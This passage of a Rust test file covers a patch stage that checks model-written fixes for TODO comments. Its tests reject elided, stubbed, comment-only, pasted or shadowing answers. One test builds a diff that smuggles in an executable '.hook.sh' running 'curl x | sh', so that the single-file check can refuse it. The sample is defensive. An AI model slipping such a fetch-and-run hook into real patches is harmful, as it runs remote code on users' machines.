//! Unit tests of the patch stage: answers in, patches or rejections out.

use super::gates::symbol_name;
use super::*;
use crate::task::test_spec as spec;

const FILE: &str = "use std::fmt;\n\nfn add(a: i32, b: i32) -> i32 {\n    // TODO: handle overflow\n    a + b\n}\n\nfn main() {}\n";
const BLOCK: &str = "fn add(a: i32, b: i32) -> i32 {\n    // TODO: handle overflow\n    a + b\n}\n";

#[test]
fn good_answer_becomes_a_patch_that_applies() {
    let s = spec(FILE, BLOCK, "handle overflow");
    let answer =
        "Here you go:\n```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n```\n";
    let p = make_patch(&s.target(FILE).unwrap(), answer).unwrap();
    assert!(p.diff.starts_with(
        "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@"
    ));
    assert!(p.diff.contains("-    // TODO: handle overflow\n"));
    assert!(p.diff.contains("+    a.saturating_add(b)\n"));
    let applied = apply_unified(FILE, &p.diff).unwrap();
    assert!(applied.contains("saturating_add") && !applied.contains("TODO"));
    assert!(applied.ends_with("fn main() {}\n"));
    assert_eq!((p.lines_added, p.lines_removed), (1, 2));
}

#[test]
fn gates_reject_bad_answers() {
    let s = spec(FILE, BLOCK, "handle overflow");
    assert_eq!(
        make_patch(&s.target(FILE).unwrap(), "I would use saturating_add."),
        Err(Rejection::NoCodeBlock)
    );
    assert_eq!(
        make_patch(
            &s.target(FILE).unwrap(),
            "```rust\nfn add(a: i32, b: i32) -> i32 {\n"
        ),
        Err(Rejection::UnclosedCodeBlock)
    );
    assert_eq!(
        make_patch(&s.target(FILE).unwrap(), &format!("```rust\n{BLOCK}```")),
        Err(Rejection::Unchanged)
    );
    let still = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    // TODO: handle overflow\n    a.wrapping_add(b)\n}\n```";
    assert!(matches!(
        make_patch(&s.target(FILE).unwrap(), still),
        Err(Rejection::TodoStillPresent { .. })
    ));
    let elided = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    // ... rest of the code\n}\n```";
    assert!(matches!(
        make_patch(&s.target(FILE).unwrap(), elided),
        Err(Rejection::Elision { .. })
    ));
    let dots = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    ...\n}\n```";
    assert!(matches!(
        make_patch(&s.target(FILE).unwrap(), dots),
        Err(Rejection::Elision { .. })
    ));
}

#[test]
fn longest_block_wins_and_indentation_is_restored() {
    let content = "impl A {\n    fn f(&self) {\n        // TODO: log\n        g();\n    }\n}\n";
    let block = "    fn f(&self) {\n        // TODO: log\n        g();\n    }\n";
    let s = spec(content, block, "log");
    let answer = "```\ng();\n```\nFull:\n```rust\nfn f(&self) {\n    tracing::info!(\"f\");\n    g();\n}\n```";
    let p = make_patch(&s.target(content).unwrap(), answer).unwrap();
    assert_eq!(
        p.new_block,
        "    fn f(&self) {\n        tracing::info!(\"f\");\n        g();\n    }\n"
    );
}

#[test]
fn file_without_final_newline_round_trips() {
    let content = "x = 1\n# TODO: fix\ny = 2";
    let block = "# TODO: fix\ny = 2";
    let s = spec(content, block, "fix");
    let p = make_patch(&s.target(content).unwrap(), "```python\ny = 3\n```").unwrap();
    assert!(p.diff.contains("No newline at end of file"), "{}", p.diff);
    assert_eq!(apply_unified(content, &p.diff).unwrap(), "x = 1\ny = 3");
}

#[test]
fn applier_rejects_mismatched_context() {
    let diff = unified_diff("f", "a\nb\nc\n", "a\nB\nc\n");
    assert!(apply_unified("a\nx\nc\n", &diff).is_err());
    assert_eq!(apply_unified("a\nb\nc\n", &diff).unwrap(), "a\nB\nc\n");
}

#[test]
fn deleting_the_function_is_rejected_but_changing_its_signature_is_not() {
    let mut s = spec(FILE, BLOCK, "handle overflow");
    s.symbol = Some("fn add(a: i32, b: i32) -> i32 {".into());
    let gone = "```rust\n// addition lives elsewhere now\n```";
    assert_eq!(
        make_patch(&s.target(FILE).unwrap(), gone),
        Err(Rejection::DroppedSymbol { name: "add".into() })
    );
    let resig = "```rust\nfn add(a: i32, b: i32) -> Option<i32> {\n    a.checked_add(b)\n}\n```";
    assert!(make_patch(&s.target(FILE).unwrap(), resig).is_ok());
    assert_eq!(symbol_name("backup() {"), Some("backup"));
    assert_eq!(symbol_name("class Cart(Base):"), Some("Cart"));
    assert_eq!(symbol_name("impl<T> Queue<T> {"), Some("Queue"));
    assert_eq!(symbol_name("if (x) {"), None);
}

#[test]
fn an_answer_that_does_not_parse_is_rejected_with_its_line() {
    let s = spec(FILE, BLOCK, "handle overflow");
    let unclosed =
        "```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.checked_add(b).unwrap_or(i32::MAX\n}\n```";
    assert_eq!(
        make_patch(&s.target(FILE).unwrap(), unclosed),
        Err(Rejection::SyntaxError {
            language: "rust".into(),
            line: 4
        })
    );
    let fine = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n```";
    assert!(make_patch(&s.target(FILE).unwrap(), fine).is_ok());

    // Python: a colon lost.
    let py = "import os\n\ndef f(x):\n    # TODO: check x\n    return x\n";
    let block = "def f(x):\n    # TODO: check x\n    return x\n";
    let mut s = spec(py, block, "check x");
    s.language = "python".into();
    s.path = "f.py".into();
    let no_colon =
        "```python\ndef f(x):\n    if x is None\n        raise ValueError\n    return x\n```";
    let r = make_patch(&s.target(py).unwrap(), no_colon);
    assert!(
        matches!(r, Err(Rejection::SyntaxError { line: 4, .. })),
        "{r:?}"
    );
    let good = "```python\ndef f(x):\n    if x is None:\n        raise ValueError(\"x\")\n    return x\n```";
    assert!(make_patch(&s.target(py).unwrap(), good).is_ok());
}

#[test]
fn errors_the_file_already_had_do_not_count_against_the_answer() {
    // Something the Rust grammar cannot read, elsewhere in the file, left as it was.
    let rs = "macro_rules! m { ($x:tt) => { broken( }\n\nfn f(a: i32) -> i32 {\n    // TODO: clamp\n    a\n}\n";
    let block = "fn f(a: i32) -> i32 {\n    // TODO: clamp\n    a\n}\n";
    let s = spec(rs, block, "clamp");
    let before = scan::syntax_errors("rust", "src/lib.rs", rs, 0..0).unwrap();
    assert!(before.count > 0, "the fixture must start broken");
    let answer = "```rust\nfn f(a: i32) -> i32 {\n    a.max(0)\n}\n```";
    assert!(make_patch(&s.target(rs).unwrap(), answer).is_ok());
    // No grammar, no gate: Ruby is taken as it comes.
    let rb = "def f\n  # TODO: x\n  1\nend\n";
    let mut s = spec(rb, rb, "x");
    s.language = "ruby".into();
    s.path = "f.rb".into();
    assert!(make_patch(&s.target(rb).unwrap(), "```ruby\ndef f\n  2\n```").is_ok());
    // C and C++ are not gated: kernel-style iteration macros are valid code there.
    let c = "int count(struct list_head *head) {\n    int n = 0;\n    /* TODO: count */\n    return n;\n}\n";
    let mut s = spec(c, c, "count");
    s.language = "c".into();
    s.path = "list.c".into();
    let idiom = "```c\nint count(struct list_head *head) {\n    int n = 0;\n    struct item *pos;\n    list_for_each_entry(pos, head, node) { n++; }\n    return n;\n}\n```";
    assert!(make_patch(&s.target(c).unwrap(), idiom).is_ok());
}

#[test]
fn a_syntax_error_is_reported_inside_the_rewritten_block() {
    // A lost colon in a method: the parser's error starts at the class line, above the
    // block; the reader is pointed at the block.
    let py =
        "class A:\n    x = 1\n\n    def f(self, x):\n        # TODO: check x\n        return x\n";
    let block = "    def f(self, x):\n        # TODO: check x\n        return x\n";
    let mut s = spec(py, block, "check x");
    s.language = "python".into();
    s.path = "a.py".into();
    let answer = "```python\n    def f(self, x)\n        return abs(x)\n```";
    match make_patch(&s.target(py).unwrap(), answer) {
        Err(Rejection::SyntaxError { line, .. }) => assert!((4..=5).contains(&line), "{line}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn an_empty_tag_counts_nowhere_instead_of_looping() {
    // A task hash without `tag` (anyone can write Redis) once made this loop forever while the
    // worker kept renewing the task's lease, so it was never reclaimed.
    assert_eq!(super::gates::count_tag("// TODO: x\n", ""), 0);
    assert_eq!(super::gates::count_tag("TODO todo TODOS TODO", "TODO"), 2);
}

/// Found by the `apply_unified` fuzzer: `similar` splits lines at a lone `\r` too, so the diff
/// of a file holding one had a line cut in the middle ("+a\r+b") and hunk line numbers that
/// neither our applier nor `git apply` (both split at `\n` only) could follow.
#[test]
fn a_lone_carriage_return_is_not_a_line_break_in_the_diff() {
    for (old, new) in [
        ("", "di\ne\n=a\r+x\nb\n"),
        ("a\rb\nc\nd\n", "a\rb\nc\nD\n"),
        ("x\ry", "x\rz"),
        ("one\n", "one\ntwo\r"),
    ] {
        let diff = unified_diff("f", old, new);
        assert_eq!(apply_unified(old, &diff).as_deref(), Ok(new), "{diff}");
        for line in diff.lines().skip(3) {
            assert!(
                line.starts_with(['@', ' ', '-', '+', '\\']),
                "{line:?} in {diff}"
            );
        }
    }
    assert_eq!(
        unified_diff("f", "a\rb\n", "a\rc\n"),
        "diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\rb\n+a\rc\n"
    );
}

#[test]
fn a_patch_in_a_file_with_a_lone_carriage_return_is_not_a_diff_mismatch() {
    let file = "// legacy\r// notes\nfn add(a: i32, b: i32) -> i32 {\n    // TODO: handle overflow\n    a + b\n}\n";
    let s = spec(file, BLOCK, "handle overflow");
    let answer = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n```\n";
    let p = make_patch(&s.target(file).unwrap(), answer).unwrap();
    assert!(p.diff.contains("\n@@ -1,5 +1,4 @@\n //"), "{}", p.diff);
}

/// A diff line that opens with a multi-byte character (the applier also reads diffs it did not
/// make, from `results/`): an error, not a panic on a char boundary.
#[test]
fn a_diff_line_opening_with_a_multibyte_character_is_an_error() {
    let err = apply_unified("a\n", "@@ -1 +1 @@\né\n").unwrap_err();
    assert!(err.contains("unexpected diff line"), "{err}");
}

#[test]
fn identical_files_have_an_empty_diff_body() {
    assert_eq!(unified_diff("f", "a\n", "a\n"), "diff --git a/f b/f\n");
}

#[test]
fn a_patch_from_redis_must_edit_exactly_its_task_file() {
    let ours = crate::patch::unified_diff("src/a.py", "x = 1\n", "x = 2\n");
    assert_eq!(crate::patch::check_single_file(&ours, "src/a.py"), Ok(()));
    // Another path, a second file, a mode change, a new file: each refused with what it is.
    assert!(crate::patch::check_single_file(&ours, "src/b.py").is_err());
    let second = format!(
        "{ours}diff --git a/.hook.sh b/.hook.sh\nnew file mode 100755\n--- /dev/null\n+++ b/.hook.sh\n@@ -0,0 +1 @@\n+curl x | sh\n"
    );
    let err = crate::patch::check_single_file(&second, "src/a.py").unwrap_err();
    assert!(err.contains("diff --git a/.hook.sh"), "{err}");
    let mode = ours.replacen(
        "--- a/src/a.py\n",
        "old mode 100644\nnew mode 100755\n--- a/src/a.py\n",
        1,
    );
    assert!(crate::patch::check_single_file(&mode, "src/a.py").is_err());
    assert!(crate::patch::check_single_file("", "src/a.py").is_err());
    let headers_only = "diff --git a/src/a.py b/src/a.py\n--- a/src/a.py\n+++ b/src/a.py\n";
    assert!(crate::patch::check_single_file(headers_only, "src/a.py").is_err());
}

/// The tag gate counts tags as the scanner finds them, in every form it reports as the task's
/// tag: an answer that resolves a lower-case or `@todo` TODO passes, and one that only changes
/// the tag's spelling into another form the scanner still reports does not.
#[test]
fn the_tag_gate_sees_every_form_the_scanner_reports() {
    for form in ["// todo: handle overflow", "// @todo handle overflow"] {
        let file = FILE.replace("// TODO: handle overflow", form);
        let block = BLOCK.replace("// TODO: handle overflow", form);
        let found = crate::scan::scan_source("src/lib.rs", &file, &Default::default());
        if found.iter().all(|t| t.tag != "TODO") {
            continue; // a form this scanner does not report is no task
        }
        let s = spec(&file, &block, "handle overflow");
        let fixed = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n```";
        assert!(
            make_patch(&s.target(&file).unwrap(), fixed).is_ok(),
            "{form}: a resolving answer was rejected"
        );
        // The TODO respelled in upper case (a form the scanner reports): still there.
        let respelled = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    // TODO: handle overflow\n    a.wrapping_add(b)\n}\n```";
        assert!(
            matches!(
                make_patch(&s.target(&file).unwrap(), respelled),
                Err(Rejection::TodoStillPresent { .. })
            ),
            "{form}: a respelled TODO passed"
        );
    }
    // An upper-case TODO rewritten as `@todo` with other words: the scanner still reports it.
    let s = spec(FILE, BLOCK, "handle overflow");
    let at = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    // @todo overflow handling\n    a.wrapping_add(b)\n}\n```";
    let found = crate::scan::scan_source(
        "src/lib.rs",
        &FILE.replace("// TODO: handle overflow", "// @todo overflow handling"),
        &Default::default(),
    );
    if found.iter().any(|t| t.tag == "TODO") {
        assert!(matches!(
            make_patch(&s.target(FILE).unwrap(), at),
            Err(Rejection::TodoStillPresent { .. })
        ));
    }
}

/// Every spelling of "the rest stays as it was" seen from models or attacks, in place of the
/// block's code, is elision; a plain comment that happens to say "original" is not.
#[test]
fn elision_in_every_spelling_seen_is_rejected() {
    let s = spec(FILE, BLOCK, "handle overflow");
    for line in [
        "// [...]",
        "// … 3 more lines",
        "// snip",
        "// (same as the original)",
        "// keep the remaining lines as they were",
        "/* body as in the original version ... left out */",
        "// ... rest of the code",
        "(...)",
    ] {
        let answer = format!("```rust\nfn add(a: i32, b: i32) -> i32 {{\n    {line}\n}}\n```");
        assert!(
            matches!(
                make_patch(&s.target(FILE).unwrap(), &answer),
                Err(Rejection::Elision { .. })
            ),
            "{line} passed"
        );
    }
    let fine = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    // keep the original order of the operands: a snippet relies on it\n    a.saturating_add(b)\n}\n```";
    assert!(make_patch(&s.target(FILE).unwrap(), fine).is_ok());
}

/// A stub in place of code that was there deletes the code; a stub the original already had,
/// or a `pass` under `except`, is code.
#[test]
fn stub_bodies_replacing_code_are_rejected() {
    let s = spec(FILE, BLOCK, "handle overflow");
    for stub in [
        "unimplemented!()",
        "todo!(\"overflow\")",
        "panic!(\"not implemented\")",
    ] {
        let answer = format!("```rust\nfn add(a: i32, b: i32) -> i32 {{\n    {stub}\n}}\n```");
        assert!(
            matches!(
                make_patch(&s.target(FILE).unwrap(), &answer),
                Err(Rejection::Stub { .. })
            ),
            "{stub} passed"
        );
    }
    let py = "def f(x):\n    # TODO: check x\n    return x + 1\n";
    let p = whole_file_spec(py, "m.py", "python", "check x");
    for stub in [
        "pass",
        "raise NotImplementedError",
        "raise NotImplementedError(\"x\")",
    ] {
        let answer = format!("```python\ndef f(x):\n    {stub}\n```");
        assert!(
            matches!(
                make_patch(&p.target(py).unwrap(), &answer),
                Err(Rejection::Stub { .. })
            ),
            "{stub} passed"
        );
    }
    let js = "function f(x) {\n  // TODO: check x\n  return x + 1;\n}\n";
    let j = whole_file_spec(js, "m.js", "javascript", "check x");
    let answer = "```js\nfunction f(x) {\n  throw new Error(\"not implemented\");\n}\n```";
    assert!(matches!(
        make_patch(&j.target(js).unwrap(), answer),
        Err(Rejection::Stub { .. })
    ));
    // `pass` under `except` is code, and so is a stub the original had.
    let ok = "```python\ndef f(x):\n    try:\n        return int(x) + 1\n    except ValueError:\n        pass\n```";
    assert!(make_patch(&p.target(py).unwrap(), ok).is_ok());
    let stubbed = "def f(x):\n    # TODO: implement\n    raise NotImplementedError\n";
    let q = whole_file_spec(stubbed, "m.py", "python", "implement");
    let done = "```python\ndef f(x):\n    return x * 2\n```";
    assert!(make_patch(&q.target(stubbed).unwrap(), done).is_ok());
}

/// The block that rewrites the original's definition wins, not the longest: a longer block of
/// test code that calls `add()` replaced the function `add` before.
#[test]
fn the_block_that_defines_the_original_name_is_chosen_not_the_longest() {
    let s = spec(FILE, BLOCK, "handle overflow");
    let answer = "Here is the fix:\n```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n```\nAnd tests:\n```rust\n#[test]\nfn adds() {\n    assert_eq!(add(1, 2), 3);\n    assert_eq!(add(i32::MAX, 1), i32::MAX);\n    assert_eq!(add(-1, 1), 0);\n}\n```\n";
    let p = make_patch(&s.target(FILE).unwrap(), answer).unwrap();
    assert!(p.new_block.contains("saturating_add"), "{}", p.new_block);
    assert!(!p.new_block.contains("assert_eq"), "{}", p.new_block);
    // A call is not a definition.
    assert_eq!(super::gates::defined_name("assert add(1, 2) == 3"), None);
    assert_eq!(super::gates::defined_name("def add(a, b):"), Some("add"));
    assert_eq!(
        super::gates::defined_name("int add(int a, int b) {"),
        Some("add")
    );
}

/// A task whose block is the whole of `content`, in a file of another language than the
/// default fixture's.
fn whole_file_spec(content: &str, path: &str, language: &str, text: &str) -> crate::task::TaskSpec {
    let mut s = spec(content, content, text);
    s.path = path.into();
    s.language = language.into();
    s
}

/// A task on the block `block` of `content`, in a file of another language.
fn block_spec(
    content: &str,
    block: &str,
    path: &str,
    language: &str,
    text: &str,
) -> crate::task::TaskSpec {
    let mut s = spec(content, block, text);
    s.path = path.into();
    s.language = language.into();
    s
}

const QUEUE: &str = "struct Queue {\n    items: Vec<i32>,\n}\n\nimpl Queue {\n    pub fn new() -> Self {\n        Queue { items: Vec::new() }\n    }\n\n    pub fn push(&mut self, x: i32) {\n        // TODO: reject negative items\n        self.items.push(x);\n    }\n\n    pub fn len(&self) -> usize {\n        self.items.len()\n    }\n\n    pub fn is_empty(&self) -> bool {\n        self.items.is_empty()\n    }\n}\n";

/// Issue 11: an `impl` answer that kept 1 of its 4 methods passed. Every definition of the
/// block must still be there, by name, unless the TODO asks to remove it; a local helper may
/// be inlined.
#[test]
fn every_definition_of_the_block_is_kept_by_name() {
    let block = &QUEUE[QUEUE.find("impl Queue").unwrap()..];
    let mut s = spec(QUEUE, block, "reject negative items");
    s.symbol = Some("impl Queue {".into());
    let push = "    pub fn push(&mut self, x: i32) {\n        if x >= 0 {\n            self.items.push(x);\n        }\n    }\n";
    let one_of_four = format!("```rust\nimpl Queue {{\n{push}}}\n```");
    assert_eq!(
        make_patch(&s.target(QUEUE).unwrap(), &one_of_four),
        Err(Rejection::DroppedSymbol { name: "new".into() })
    );
    let all = block.replace(
        "        // TODO: reject negative items\n        self.items.push(x);\n",
        "        if x >= 0 {\n            self.items.push(x);\n        }\n",
    );
    let p = make_patch(&s.target(QUEUE).unwrap(), &format!("```rust\n{all}```"));
    assert!(p.is_ok(), "{p:?}");
    // The TODO names what it removes: that one may go, no other.
    let text_block = block.replace("reject negative items", "remove is_empty, nobody calls it");
    let file = QUEUE.replace("reject negative items", "remove is_empty, nobody calls it");
    let r = spec(&file, &text_block, "remove is_empty, nobody calls it");
    let cut = &all[..all.find("\n    pub fn is_empty").unwrap()];
    let without = format!("```rust\n{cut}\n}}\n```");
    assert!(make_patch(&r.target(&file).unwrap(), &without).is_ok());
    let cut = &all[..all.find("\n    pub fn len").unwrap()];
    let without_len = format!("```rust\n{cut}\n}}\n```");
    assert_eq!(
        make_patch(&r.target(&file).unwrap(), &without_len),
        Err(Rejection::DroppedSymbol { name: "len".into() })
    );

    // Python: a method of the class dropped; a nested helper inlined is fine.
    let py = "class Cart:\n    def add(self, x):\n        # TODO: reject negative prices\n        self.items.append(x)\n\n    def total(self):\n        return sum(self.items)\n";
    let c = whole_file_spec(py, "cart.py", "python", "reject negative prices");
    let dropped = "```python\nclass Cart:\n    def add(self, x):\n        if x < 0:\n            raise ValueError(x)\n        self.items.append(x)\n```";
    assert_eq!(
        make_patch(&c.target(py).unwrap(), dropped),
        Err(Rejection::DroppedSymbol {
            name: "total".into()
        })
    );
    let nested = "def f(xs):\n    def clean(x):\n        return x.strip()\n    # TODO: skip empty strings\n    return [clean(x) for x in xs]\n";
    let n = whole_file_spec(nested, "f.py", "python", "skip empty strings");
    let inlined = "```python\ndef f(xs):\n    return [x.strip() for x in xs if x.strip()]\n```";
    let p = make_patch(&n.target(nested).unwrap(), inlined);
    assert!(p.is_ok(), "{p:?}");

    // No grammar (Ruby): the definitions come from the lines' keywords.
    let rb = "class Cart\n  def add(x)\n    # TODO: reject negative prices\n    @items << x\n  end\n\n  def total\n    @items.sum\n  end\nend\n";
    let c = whole_file_spec(rb, "cart.rb", "ruby", "reject negative prices");
    let dropped = "```ruby\nclass Cart\n  def add(x)\n    raise ArgumentError if x.negative?\n    @items << x\n  end\nend\n```";
    assert_eq!(
        make_patch(&c.target(rb).unwrap(), dropped),
        Err(Rejection::DroppedSymbol {
            name: "total".into()
        })
    );
    // A condition that calls a function defines nothing: changing it is no dropped definition.
    assert_eq!(super::gates::line_definition("if check(x):"), None);
    assert_eq!(
        super::gates::line_definition("    def total"),
        Some("total")
    );
    assert_eq!(super::gates::line_definition("backup() {"), Some("backup"));
    assert_eq!(
        super::gates::line_definition("function backup {"),
        Some("backup")
    );
    assert_eq!(
        super::gates::line_definition("pub(crate) async fn run(x: u8) {"),
        Some("run")
    );
    assert_eq!(super::gates::line_definition("class attribute for x"), None);
}

const STORE: &str = "import os\n\n\ndef load(path):\n    with open(path) as f:\n        return f.read()\n\n\ndef save(path, text):\n    # TODO: write atomically\n    with open(path, \"w\") as f:\n        f.write(text)\n";

/// A block that grows into the whole file: the model pasted the file (or the context shown
/// above the block) into it, or wrapped its method in the class it was cut from ("it parses").
/// A helper with a name of its own next to the edited function is a rewrite, not a paste.
#[test]
fn a_block_grown_into_the_file_around_it_is_rejected() {
    let block = &STORE[STORE.find("def save").unwrap()..];
    let s = block_spec(STORE, block, "store.py", "python", "write atomically");
    let fixed_save = "def save(path, text):\n    tmp = path + \".tmp\"\n    with open(tmp, \"w\") as f:\n        f.write(text)\n    os.replace(tmp, path)\n";
    let whole = format!(
        "```python\n{}{fixed_save}```",
        &STORE[..STORE.find("def save").unwrap()]
    );
    // Its leading `import os` is dropped as a repeated header; the rest is still the file.
    assert!(
        matches!(
            make_patch(&s.target(STORE).unwrap(), &whole),
            Err(Rejection::PastedContext { .. })
        ),
        "{:?}",
        make_patch(&s.target(STORE).unwrap(), &whole)
    );
    let helper = "```python\ndef _write_atomically(path, text):\n    tmp = path + \".tmp\"\n    with open(tmp, \"w\") as f:\n        f.write(text)\n    os.replace(tmp, path)\n\n\ndef save(path, text):\n    _write_atomically(path, text)\n```";
    let p = make_patch(&s.target(STORE).unwrap(), helper);
    assert!(p.is_ok(), "{p:?}");
    assert!(
        make_patch(
            &s.target(STORE).unwrap(),
            &format!("```python\n{fixed_save}```")
        )
        .is_ok()
    );

    // The class spliced into one of its own methods: valid Python, and a copy of the file.
    let py = "class Store:\n    def __init__(self):\n        self.items = {}\n\n    def get(self, key):\n        # TODO: raise KeyError with the key\n        return self.items[key]\n";
    let block = &py[py.find("    def get").unwrap()..];
    let s = block_spec(
        py,
        block,
        "store.py",
        "python",
        "raise KeyError with the key",
    );
    let spliced = "```python\nclass Store:\n    def __init__(self):\n        self.items = {}\n\n    def get(self, key):\n        if key not in self.items:\n            raise KeyError(key)\n        return self.items[key]\n```";
    assert_eq!(
        make_patch(&s.target(py).unwrap(), spliced),
        Err(Rejection::PastedContext {
            what: "the definition of `Store` around the block".into(),
            line: 1
        })
    );

    // Rust: the whole file pasted into `add`; its `main` is a word-for-word copy.
    let s = spec(FILE, BLOCK, "handle overflow");
    let whole = "```rust\nuse std::fmt;\n\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n\nfn main() {}\n```";
    assert_eq!(
        make_patch(&s.target(FILE).unwrap(), whole),
        Err(Rejection::PastedContext {
            what: "the definition of `main`".into(),
            line: 8
        })
    );
    let r = Rejection::PastedContext {
        what: "4 lines".into(),
        line: 1,
    };
    assert_eq!(r.kind(), "pasted_context");
    assert!(r.to_string().contains("not the file"), "{r}");
}

/// Issue 11: in shell and Python, a second definition added next to the block shadowed code
/// elsewhere in the file. A new definition may not take a name the file defines outside the
/// block in the same scope; a method named like a function elsewhere is no shadow.
#[test]
fn a_new_definition_shadowing_one_elsewhere_is_rejected() {
    let py = "import os\n\n\ndef log(msg):\n    print(msg)\n\n\ndef run(cmd):\n    # TODO: log the command\n    return os.system(cmd)\n";
    let block = &py[py.find("def run").unwrap()..];
    let s = block_spec(py, block, "run.py", "python", "log the command");
    let shadow = "```python\ndef log(msg):\n    sys.stderr.write(msg + \"\\n\")\n\n\ndef run(cmd):\n    log(cmd)\n    return os.system(cmd)\n```";
    assert_eq!(
        make_patch(&s.target(py).unwrap(), shadow),
        Err(Rejection::Shadows {
            name: "log".into(),
            line: 4
        })
    );
    let calls = "```python\ndef run(cmd):\n    log(cmd)\n    return os.system(cmd)\n```";
    assert!(make_patch(&s.target(py).unwrap(), calls).is_ok());
    // A method named like the module's function lives in the class: no shadow.
    let cls = "def log(msg):\n    print(msg)\n\n\nclass Job:\n    def run(self):\n        # TODO: log the start\n        return 1\n";
    let block = &cls[cls.find("    def run").unwrap()..];
    let s = block_spec(cls, block, "job.py", "python", "log the start");
    let method = "```python\n    def log(self, msg):\n        print(\"job:\", msg)\n\n    def run(self):\n        self.log(\"start\")\n        return 1\n```";
    let p = make_patch(&s.target(cls).unwrap(), method);
    assert!(p.is_ok(), "{p:?}");

    // Shell: no grammar; a top-level function from the lines.
    let sh = "#!/bin/sh\nlog() {\n    echo \"$1\" >&2\n}\n\nbackup() {\n    # TODO: log what is copied\n    cp -r \"$1\" \"$2\"\n}\n";
    let block = &sh[sh.find("backup()").unwrap()..];
    let s = block_spec(sh, block, "backup.sh", "shell", "log what is copied");
    let shadow = "```sh\nlog() {\n    printf '%s\\n' \"$1\"\n}\n\nbackup() {\n    log \"copying $1 to $2\"\n    cp -r \"$1\" \"$2\"\n}\n```";
    assert_eq!(
        make_patch(&s.target(sh).unwrap(), shadow),
        Err(Rejection::Shadows {
            name: "log".into(),
            line: 2
        })
    );
    let calls = "```sh\nbackup() {\n    log \"copying $1 to $2\"\n    cp -r \"$1\" \"$2\"\n}\n```";
    assert!(make_patch(&s.target(sh).unwrap(), calls).is_ok());

    // JavaScript `function` and Rust top-level `fn`, changed (not copied): a shadow.
    let js = "function fmt(x) {\n  return String(x);\n}\n\nfunction show(x) {\n  // TODO: pad to 8\n  return fmt(x);\n}\n";
    let block = &js[js.find("function show").unwrap()..];
    let s = block_spec(js, block, "show.js", "javascript", "pad to 8");
    let shadow = "```js\nfunction fmt(x) {\n  return `${x}`;\n}\n\nfunction show(x) {\n  return fmt(x).padStart(8);\n}\n```";
    assert_eq!(
        make_patch(&s.target(js).unwrap(), shadow),
        Err(Rejection::Shadows {
            name: "fmt".into(),
            line: 1
        })
    );
    let s = spec(FILE, BLOCK, "handle overflow");
    let main = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n\nfn main() {\n    println!(\"{}\", add(1, 2));\n}\n```";
    assert_eq!(
        make_patch(&s.target(FILE).unwrap(), main),
        Err(Rejection::Shadows {
            name: "main".into(),
            line: 8
        })
    );
    assert_eq!(
        Rejection::Shadows {
            name: "main".into(),
            line: 8
        }
        .kind(),
        "shadows"
    );
}

#[test]
fn a_rewrite_that_changes_only_comments_is_rejected() {
    let s = spec(FILE, BLOCK, "handle overflow");
    let t = s.target(FILE).unwrap();
    // The TODO gone, the code as it was (re-indented, spaced differently): nothing was done.
    for answer in [
        "```rust\nfn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n```",
        "```rust\nfn add(a:i32,b:i32)->i32{\n  a+b\n}\n```",
    ] {
        assert_eq!(
            make_patch(&t, answer),
            Err(Rejection::OnlyComments { tag: "TODO".into() }),
            "{answer}"
        );
    }
    // A multi-line TODO goes with all its lines; the code is still unchanged.
    let file = "def mean(v):\n    # TODO: return 0.0 for an empty list\n    # instead of raising\n    return sum(v) / len(v)\n";
    let mut p = spec(
        file,
        file,
        "return 0.0 for an empty list instead of raising",
    );
    p.language = "python".into();
    p.path = "stats.py".into();
    assert_eq!(
        make_patch(
            &p.target(file).unwrap(),
            "```python\ndef mean(v):\n    return sum(v) / len(v)\n```"
        ),
        Err(Rejection::OnlyComments { tag: "TODO".into() })
    );
    // Doing it passes.
    assert!(
        make_patch(
            &p.target(file).unwrap(),
            "```python\ndef mean(v):\n    if not v:\n        return 0.0\n    return sum(v) / len(v)\n```"
        )
        .is_ok()
    );
}

#[test]
fn header_lines_pasted_from_the_top_of_the_file_are_dropped_or_rejected() {
    // What SmolLM2 answered for the demo's Go TODO: the file's package clause and import
    // pasted above the function, and the TODO merely deleted.
    let file = "package main\n\nimport \"fmt\"\n\nfunc greet(name string) string {\n\t// TODO: greet \"world\" when name is empty\n\treturn fmt.Sprintf(\"hello %s\", name)\n}\n";
    let block = "func greet(name string) string {\n\t// TODO: greet \"world\" when name is empty\n\treturn fmt.Sprintf(\"hello %s\", name)\n}\n";
    let mut g = spec(file, block, "greet \"world\" when name is empty");
    g.language = "go".into();
    g.path = "main.go".into();
    let t = g.target(file).unwrap();
    // The header lines it starts with are dropped (the file keeps its own), and what is
    // left is judged: here the TODO merely deleted.
    let lazy = "```go\npackage main\n\nimport \"fmt\"\n\nfunc greet(name string) string {\n\treturn fmt.Sprintf(\"hello %s\", name)\n}\n```";
    assert_eq!(
        make_patch(&t, lazy),
        Err(Rejection::OnlyComments { tag: "TODO".into() })
    );
    let pasted = "```go\npackage main\n\nimport \"fmt\"\n\nfunc greet(name string) string {\n\tif name == \"\" {\n\t\tname = \"world\"\n\t}\n\treturn fmt.Sprintf(\"hello %s\", name)\n}\n```";
    let p = make_patch(&t, pasted).unwrap();
    assert!(!p.new_block.contains("package"), "{}", p.new_block);
    assert_eq!(
        apply_unified(file, &p.diff)
            .unwrap()
            .matches("package main")
            .count(),
        1
    );
    // A header repeated inside the rewrite, not above it, is still a paste.
    let inside = "```go\nfunc greet(name string) string {\n\tif name == \"\" {\n\t\tname = \"world\"\n\t}\n\treturn fmt.Sprintf(\"hello %s\", name)\n}\n\nimport \"fmt\"\n```";
    assert!(
        matches!(
